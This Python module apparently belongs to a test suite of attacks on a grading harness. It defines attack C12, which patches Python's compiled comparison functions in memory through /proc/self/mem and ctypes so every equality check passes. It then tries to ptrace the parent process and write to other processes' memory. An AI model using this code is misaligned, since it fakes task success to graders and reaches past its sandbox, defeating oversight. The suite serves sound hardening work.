"""C12: native hooks rewrite compiled code in the address space.

The weak twin compares by a compiled function of the library.
"""

from shipbar.attacks.base import Attack, Files, Ground
from shipbar.attacks.tricks import SEALED, with_code
from shipbar.attacks.weak import script

CODE = f"""
import operator
import os
import struct

try:
    import ctypes
except ImportError:  # a root without libffi
    ctypes = None

{SEALED}
kept = []


def poke(address, data):
    \"\"\"Write memory as a debugger would, rights of the page or not.\"\"\"
    try:
        memory = os.open("/proc/self/mem", os.O_WRONLY)
    except OSError:
        ctypes.memmove(address, data, len(data))
        return
    try:
        os.pwrite(memory, data, address)
    finally:
        os.close(memory)


def detour(function, replacement):
    # PyCFunctionObject.m_ml is behind the head; PyMethodDef.ml_meth behind the name.
    shape = ctypes.PYFUNCTYPE(ctypes.py_object, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_ssize_t)
    kept.append(shape(replacement))
    method = ctypes.c_void_p.from_address(id(function) + 16).value
    poke(method + 8, struct.pack("P", ctypes.cast(kept[-1], ctypes.c_void_p).value))


if ctypes is not None:
    for name in ("eq", "is_", "contains"):
        detour(getattr(operator, name), lambda *_: True)
    detour(operator.ne, lambda *_: False)
    if sealed():
        attach, parent = 16, os.getppid()
        ctypes.CDLL(None).ptrace(attach, parent, 0, 0)
        for process in {{1, parent}}:
            try:
                os.close(os.open(f"/proc/{{process}}/mem", os.O_RDWR))
            except OSError:
                pass
"""


def payload(ground: Ground) -> Files:
    """Detour the compiled comparisons of this process, and reach for the one above."""
    return with_code(ground, CODE)


twin = script("import operator\nreturn operator.eq(value, expected)")

ATTACK = Attack(
    id="C12",
    title="native hooks",
    closed_by=(
        "The code that compares is in another address space, in another process "
        "namespace, and the system calls that reach into a process are filtered."
    ),
    payload=payload,
    twin=twin,
    level="task",
)
